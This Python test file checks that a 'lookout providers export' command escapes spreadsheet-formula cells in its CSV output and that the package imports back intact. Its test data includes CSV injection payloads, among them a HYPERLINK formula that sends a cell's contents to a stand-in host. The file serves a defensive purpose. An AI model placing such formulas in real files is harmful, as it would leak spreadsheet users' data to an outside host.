"""`lookout providers export`: a cell a spreadsheet would run as a formula is escaped
(shared/csvexport.py), and the package still imports as it was (issue 14)."""

from __future__ import annotations

import csv
import os
from pathlib import Path

from services.referrals import models as m
from services.referrals.hsds import import_path
from shared.db import session_scope
from shared.settings import Settings
from tests.conftest import MigratedSqlite, run_lookout
from tests.referrals.test_hsds import import_sample

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_export_escapes_formula_cells_and_imports_back(settings: Settings,
                                                            tmp_path: Path,
                                                            migrated_sqlite: MigratedSqlite,
                                                            ) -> None:
    import_sample(settings.sqlalchemy_url)
    with session_scope(settings.sqlalchemy_url) as session:
        services = sorted(session.query(m.Service).all(), key=lambda s: s.id)[:len(FORMULAS)]
        for svc, formula in zip(services, FORMULAS, strict=True):
            svc.name = formula
        names = {svc.id: svc.name for svc in services}
    env = {**os.environ, "LOOKOUT_ENV": "test", "LOOKOUT_VAR_DIR": str(tmp_path),
           "LOOKOUT_DATABASE_URL": settings.sqlalchemy_url}
    run_lookout(env, "providers", "export", str(tmp_path / "package"))

    with (tmp_path / "package" / "service.csv").open(newline="") as fh:
        cells = {row["id"]: row["name"] for row in csv.DictReader(fh)}
    for service_id, name in names.items():
        assert cells[service_id] == "'" + name  # a spreadsheet shows it, never runs it
    every_cell = [cell for path in (tmp_path / "package").glob("*.csv")
                  for row in csv.reader(path.open(newline="")) for cell in row]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "-", "@") and not _number(c)]

    other = migrated_sqlite(tmp_path / "other.db")
    with session_scope(other) as session:
        assert import_path(session, tmp_path / "package").rejected == []
        for service_id, name in names.items():
            imported = session.get(m.Service, service_id)
            assert imported is not None and imported.name == name
